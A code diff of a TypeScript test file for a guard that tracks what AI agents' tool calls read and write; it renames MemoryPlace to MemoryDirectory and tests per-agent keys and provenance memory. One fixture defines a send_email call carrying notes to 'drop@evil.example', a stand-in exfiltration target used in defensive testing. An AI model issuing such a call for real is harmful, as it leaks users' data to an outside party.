@@ -2,7 +2,7 @@ import { readdirSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { createGuard } from '../../../src/guard/index.ts'
-import { MemoryPlace } from '../../../src/guard/memory/place.ts'
+import { MemoryDirectory } from '../../../src/guard/memory/directory.ts'
 import { type Carried, memoryLimits, TaskMemory } from '../../../src/guard/provenance/index.ts'
 import { remembered } from '../../../src/guard/provenance/remembered.ts'
 import { temporaryDirectory } from '../../support/temporary.ts'
@@ -14,30 +14,30 @@ const mail = { tool: 'send_email', args: { to: 'drop@evil.example', body: 'the n
 describe('a place', () => {
   it('has one secret, that nobody else may read', () => {
     const root = temporaryDirectory()
-    const { key } = MemoryPlace.open(root, 'a1')
+    const { key } = MemoryDirectory.open(root, 'a1')
     expect(key).toHaveLength(32)
-    expect(MemoryPlace.open(root, 'a2').key).toEqual(key)
+    expect(MemoryDirectory.open(root, 'a2').key).toEqual(key)
     expect(statSync(join(root, 'key')).mode & 0o777).toBe(0o600)
-    expect(MemoryPlace.open(temporaryDirectory(), 'a1').key).not.toEqual(key)
+    expect(MemoryDirectory.open(temporaryDirectory(), 'a1').key).not.toEqual(key)
   })
 
   it('says what is wrong with a secret that is none', () => {
     const root = temporaryDirectory()
     writeFileSync(join(root, 'key'), 'short')
-    expect(() => MemoryPlace.open(root, 'a1')).toThrow('holds no key of 32 bytes')
+    expect(() => MemoryDirectory.open(root, 'a1')).toThrow('holds no key of 32 bytes')
   })
 
   it('remembers per agent what it made', () => {
     const root = temporaryDirectory()
-    MemoryPlace.open(root, 'a1').keep('made', [7, 2 ** 52])
-    expect(MemoryPlace.open(root, 'a1').kept('made')).toEqual(new Set([7, 2 ** 52]))
-    expect(MemoryPlace.open(root, 'a2').kept('made').size).toBe(0)
+    MemoryDirectory.open(root, 'a1').keep('made', [7, 2 ** 52])
+    expect(MemoryDirectory.open(root, 'a1').kept('made')).toEqual(new Set([7, 2 ** 52]))
+    expect(MemoryDirectory.open(root, 'a2').kept('made').size).toBe(0)
   })
 
   it('tells a guard that runs what the others of its agent have made since, and no other agent', () => {
     const root = temporaryDirectory()
-    const [files, shell] = [MemoryPlace.open(root, 'a1'), MemoryPlace.open(root, 'a1')]
-    const stranger = MemoryPlace.open(root, 'a2')
+    const [files, shell] = [MemoryDirectory.open(root, 'a1'), MemoryDirectory.open(root, 'a1')]
+    const stranger = MemoryDirectory.open(root, 'a2')
     const [own, foreign] = [shell.kept('made'), stranger.kept('made')]
     const renew = () => {
       shell.renew('made', own)
@@ -51,7 +51,7 @@ describe('a place', () => {
     // Another guard has made room in the file.
     const many = Array.from({ length: 2 * memoryLimits.made }, (_, i) => i)
     files.keep('made', many)
-    MemoryPlace.open(root, 'a1').kept('made')
+    MemoryDirectory.open(root, 'a1').kept('made')
     files.keep('made', [2 ** 40])
     renew()
     expect([own.size, own.has(2 ** 40), foreign.size]).toEqual([memoryLimits.made, true, 0])
@@ -60,15 +60,15 @@ describe('a place', () => {
   it('remembers the last of what it made, and its file does not grow without end', () => {
     const root = temporaryDirectory()
     const { made } = memoryLimits
-    MemoryPlace.open(root, 'a1').keep(
+    MemoryDirectory.open(root, 'a1').keep(
       'made',
       Array.from({ length: 2 * made + 1 }, (_, i) => i),
     )
     const file = readdirSync(root, { recursive: true, encoding: 'utf8' }).find((name) => name.endsWith('made')) ?? ''
-    const kept = MemoryPlace.open(root, 'a1').kept('made')
+    const kept = MemoryDirectory.open(root, 'a1').kept('made')
     expect([kept.size, kept.has(made), kept.has(made + 1)]).toEqual([made, false, true])
     expect(statSync(join(root, file)).size).toBe(made * 8)
-    expect(MemoryPlace.open(root, 'a1').kept('made')).toEqual(kept)
+    expect(MemoryDirectory.open(root, 'a1').kept('made')).toEqual(kept)
     const memory = new TaskMemory({ made: kept })
     memory.addOutput('1', 'done', { makes: ['newest'] } as Carried)
     expect([kept.size, kept.has(made + 1), kept.has(2 * made)]).toEqual([made, false, true])
@@ -76,14 +76,14 @@ describe('a place', () => {
 
   it('tells neither agent nor task by its file names', () => {
     const root = temporaryDirectory()
-    MemoryPlace.open(root, 'secret-agent').journal('secret-task', remembered).announce()
+    MemoryDirectory.open(root, 'secret-agent').journal('secret-task', remembered).announce()
     expect(readdirSync(root, { recursive: true }).join()).not.toContain('secret')
   })
 })
 
 describe('task memories over one place', () => {
   function memories(root: string) {
-    const place = MemoryPlace.open(root, 'a1')
+    const place = MemoryDirectory.open(root, 'a1')
     return () => new TaskMemory({ key: place.key, journal: place.journal('t', remembered) })
   }
 
@@ -112,7 +112,7 @@ describe('task memories over one place', () => {
 it('two guards of one agent: what is read through one is held when it is mailed through the other', async () => {
   const root = temporaryDirectory()
   const guardOf = (point: string, agent = 'a1') =>
-    createGuard({ point, agent, place: MemoryPlace.open(root, `default/${agent}`) })
+    createGuard({ point, agent, memory: MemoryDirectory.open(root, `default/${agent}`) })
   const [files, mails, stranger] = [await guardOf('files'), await guardOf('mail'), await guardOf('mail2', 'a2')]
   files.startTask({ id: 't', intent: 'Read the notes' })
   const read = files.before({ tool: 'read_file', args: { path: '/notes/1.txt' }, task: 't' })
@@ -128,7 +128,7 @@ it('two guards of one agent: what is read through one is held when it is mailed 
 it('one guard removes what another one of the agent has written', async () => {
   const root = temporaryDirectory()
   const guardOf = (point: string, agent = 'a1') =>
-    createGuard({ point, agent, place: MemoryPlace.open(root, `default/${agent}`), roots: ['/work/proj'] })
+    createGuard({ point, agent, memory: MemoryDirectory.open(root, `default/${agent}`), roots: ['/work/proj'] })
   const [files, shell, stranger] = [await guardOf('files'), await guardOf('sh'), await guardOf('sh2', 'a2')]
   for (const guard of [files, shell, stranger]) guard.startTask({ id: 't', intent: 'Fix the bug' })
   const write = files.before({
